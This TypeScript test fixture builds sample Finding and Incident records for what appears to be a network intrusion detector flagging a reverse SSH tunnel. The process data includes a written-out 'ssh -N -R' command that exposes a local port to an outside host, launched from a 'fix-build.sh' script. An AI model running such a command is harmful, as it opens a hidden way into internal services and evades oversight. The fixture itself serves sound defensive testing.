import type { Finding } from "../domain/finding.js"
import type { Incident } from "../domain/incident.js"
import { startUs } from "./time.js"

export function aFinding(changes: Partial<Finding> = {}): Finding {
  return {
    id: "6f1cf3f0-6a36-5d2c-8a3e-0e5a6f0d2b11",
    version: 1,
    class: "reverse_tunnel",
    detector: "coupling",
    severity: "high",
    score: 0.97,
    confidence: 0.9,
    status: "open",
    firstSeenUs: startUs - 1_500_000,
    lastSeenUs: startUs,
    detectedAtUs: startUs,
    summary: "ssh lets 203.0.113.9 reach 127.0.0.1:8000 on build-7.",
    host: { id: "0f1e2d3c4b5a69788796a5b4c3d2e1f0", name: "build-7", bootId: "3b1c8f5e-1d2a-4c3b-9e8f-0a1b2c3d4e5f" },
    process: {
      pid: 4_711,
      startNs: "123456789",
      exe: "/usr/bin/ssh",
      argv: ["ssh", "-N", "-R", "8080:localhost:8000", "ops@203.0.113.9"],
      uid: 1_000,
      ancestors: [{ pid: 4_700, exe: "/bin/bash", argv: ["bash", "./fix-build.sh"] }],
      containerId: "",
    },
    connection: {
      cookie: "00000000000003e8",
      netns: 4_026_531_840,
      initiator: "local",
      protocol: "tcp",
      local: { address: "10.1.2.3", port: 50_022 },
      remote: { address: "203.0.113.9", port: 443 },
      openedUs: startUs - 60_000_000,
      bytesSent: 4_096,
      bytesReceived: 1_234,
      stillOpen: true,
    },
    evidence: [
      {
        kind: "conservation",
        text: "37 bytes of framing in each of 12 turns from 203.0.113.9:443 to 127.0.0.1:8000.",
        atUs: startUs,
        facts: { turns: 12, framing_bytes: 37 },
      },
    ],
    attack: ["T1572"],
    ...changes,
  }
}

export function anIncident(changes: Partial<Incident> = {}): Incident {
  return {
    id: "1c3f8a52-0f0e-5b7c-9d58-5a1f5f6f7a10",
    version: 1,
    status: "open",
    severity: "high",
    score: 0.97,
    host: { id: "0f1e2d3c4b5a69788796a5b4c3d2e1f0", name: "build-7" },
    identity: "uid 1000, /usr/bin/ssh",
    firstSeenUs: startUs - 1_500_000,
    lastSeenUs: startUs,
    summary: "ssh of uid 1000 on build-7 opened a way in.",
    findings: ["6f1cf3f0-6a36-5d2c-8a3e-0e5a6f0d2b11"],
    timeline: [{ atUs: startUs, finding: "6f1cf3f0-6a36-5d2c-8a3e-0e5a6f0d2b11", text: "A reverse tunnel was used." }],
    ...changes,
  }
}
